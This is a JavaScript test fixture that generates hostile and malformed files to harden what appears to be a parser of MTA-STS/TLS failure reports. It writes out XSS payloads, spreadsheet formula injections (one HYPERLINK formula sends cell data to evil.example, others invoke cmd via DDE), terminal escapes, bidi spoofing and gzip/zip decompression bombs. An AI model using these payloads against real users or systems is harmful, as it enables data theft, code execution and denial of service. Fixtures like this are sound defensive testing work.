/**
 * Files that nobody should send, and somebody will: `[{ name, bytes, what }]`. None may be counted as something it is not, none may stop the
 * files beside it, and no text of theirs may become more than text.
 */

import { Buffer } from "node:buffer";
import { gzipSync } from "node:zlib";

import { reports } from "./corpus.mjs";
import { asZip } from "./wrap.mjs";

/** Texts that are something else to a browser, a spreadsheet, a terminal, a reader. */
export const HOSTILE_TEXTS = [
  "<img src=x onerror=alert(1)>",
  "</script><script>alert(1)</script>",
  '"><svg onload=alert(1)>',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\u001b[31mred\u001b[0m",
  "example\u202Emoc.elpmaxe",
  "javascript:alert(1)",
  'line\nbreak, comma; "quote"',
  "\u0000\u0007\u007f",
];

/** Readable reports whose every text is hostile; they count. */
export function hostileTexts({ domain = "example.com", day = "2026-11-25" } = {}) {
  return HOSTILE_TEXTS.map((text, number) => {
    const json = JSON.stringify({
      "organization-name": text,
      "date-range": { "start-datetime": `${day}T00:00:00Z`, "end-datetime": `${day}T23:59:59Z` },
      "contact-info": text,
      "report-id": `${text}${number}`,
      policies: [
        {
          policy: {
            "policy-type": "sts",
            "policy-string": ["version: STSv1", text],
            "policy-domain": domain,
            "mx-host": [text],
          },
          summary: { "total-successful-session-count": 1, "total-failure-session-count": 1 },
          "failure-details": [
            {
              "result-type": text,
              "sending-mta-ip": text,
              "receiving-mx-hostname": text,
              "failed-session-count": 1,
              "additional-information": text,
              "failure-reason-code": text,
            },
          ],
        },
      ],
    });
    return { name: `${text}.json`, bytes: Buffer.from(json), what: `texts that read ${JSON.stringify(text)}` };
  });
}

/** Files of which nothing can be counted. */
export function unreadable() {
  const [{ json, bytes }] = reports();
  const zip = asZip([{ name: "report.json", bytes: Buffer.from(json) }]);
  const flipped = Buffer.from(bytes);
  flipped[flipped.length - 6] ^= 1;
  const report = JSON.parse(json);
  const changed = (change) => {
    const copy = structuredClone(report);
    change(copy);
    return Buffer.from(JSON.stringify(copy));
  };
  return [
    { name: "empty.json", bytes: Buffer.alloc(0), what: "nothing" },
    { name: "page.html", bytes: Buffer.from("<!doctype html><title>Sign in</title>"), what: "a page" },
    { name: "cut.json", bytes: Buffer.from(json.slice(0, json.length >> 1)), what: "JSON that is cut off" },
    { name: "list.json", bytes: Buffer.from("[]"), what: "JSON, but no object" },
    { name: "latin1.json", bytes: Buffer.from('{"organization-name":"M\xfcller"}', "latin1"), what: "no UTF-8" },
    { name: "deep.json", bytes: Buffer.from("[".repeat(100_000)), what: "nested 100,000 times" },
    { name: "no-policies.json", bytes: changed((copy) => delete copy.policies), what: "no policies" },
    {
      name: "negative.json",
      bytes: changed((copy) => (copy.policies[0].summary["total-failure-session-count"] = -1)),
      what: "a negative count",
    },
    { name: "cut.json.gz", bytes: bytes.subarray(0, bytes.length - 20), what: "gzip that is cut off" },
    { name: "flipped.json.gz", bytes: flipped, what: "gzip with another checksum" },
    { name: "bomb.json.gz", bytes: bomb(64), what: "gzip of 64 MiB of blanks" },
    { name: "cut.zip", bytes: zip.subarray(0, zip.length - 10), what: "zip that is cut off" },
    { name: "bomb.zip", bytes: asZip([{ name: "a.json.gz", bytes: bomb(64) }]), what: "such gzip in a zip" },
    { name: "photo.png", bytes: Buffer.from("89504e470d0a1a0a0000000d", "hex"), what: "a picture" },
  ];
}

/** So many MiB of blanks, compressed. */
export const bomb = (mebibytes) => gzipSync(Buffer.alloc(mebibytes << 20, " "), { level: 9 });
